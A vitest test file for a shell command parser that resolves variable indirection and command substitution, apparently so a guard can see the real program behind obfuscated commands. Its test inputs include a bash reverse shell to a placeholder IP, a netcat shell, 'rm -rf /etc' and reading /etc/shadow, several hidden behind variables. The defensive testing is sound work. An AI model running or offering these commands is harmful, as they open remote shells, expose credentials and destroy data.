import { describe, expect, it } from 'vitest';
import { parseCommandLine } from './parse-command-line';
import { MAX_VALUE, VariableScope } from './resolve-variables';

const programs = (line: string): string[] => parseCommandLine(line).map((c) => c.program);

describe('variable indirection within one line', () => {
  it('resolves a program name assembled from assignments', () => {
    const rm = parseCommandLine('x=rm; y=-rf; $x $y /etc').find((c) => c.program === 'rm');
    expect(rm?.args).toEqual(['-rf', '/etc']);
    expect(rm?.flags).toEqual(['r', 'f']);
    expect(programs('a=c;b=at;$a$b /etc/hosts')).toContain('cat');
    expect(programs('s=ba; ${s}sh -i')).toContain('bash');
  });

  it('resolves redirect targets and exported values', () => {
    const bash = parseCommandLine('t=/dev/tcp; bash -i >& $t/192.0.2.7/4444 0>&1').find(
      (c) => c.program === 'bash',
    );
    expect(bash?.redirects).toContainEqual({ op: '>&', target: '/dev/tcp/192.0.2.7/4444' });
    const cat = parseCommandLine('export F=/etc/shadow; cat "$F"').find((c) => c.program === 'cat');
    expect(cat?.args).toEqual(['/etc/shadow']);
  });

  it('resolves the program a substitution locates', () => {
    expect(programs('$(which nc) -e /bin/sh 203.0.113.7 4444')).toContain('nc');
    expect(programs('`which rm` -rf /opt')).toContain('rm');
    expect(programs("$(command -v python3) -c 'print(1)'")).toContain('python3');
    expect(programs("PY=$(which python3); $PY -c 'print(1)'")).toContain('python3');
    expect(programs('X=`command -v perl`; $X -e 1')).toContain('perl');
    expect(programs('--opt=$(which nc) run')).not.toContain('nc');
  });

  it('leaves unknown, dynamic and oversized values literal', () => {
    expect(programs('$CMD --help')).toEqual(['$CMD']);
    expect(programs('x=$(date); $x')).toContain('$x');
    const scope = new VariableScope();
    scope.assign([`v=${'a'.repeat(MAX_VALUE + 1)}`]);
    expect(scope.resolve('$v')).toBe('$v');
    scope.assign(['v=rm', 'v=`id`']);
    expect(scope.resolve('$v')).toBe('$v');
  });
});
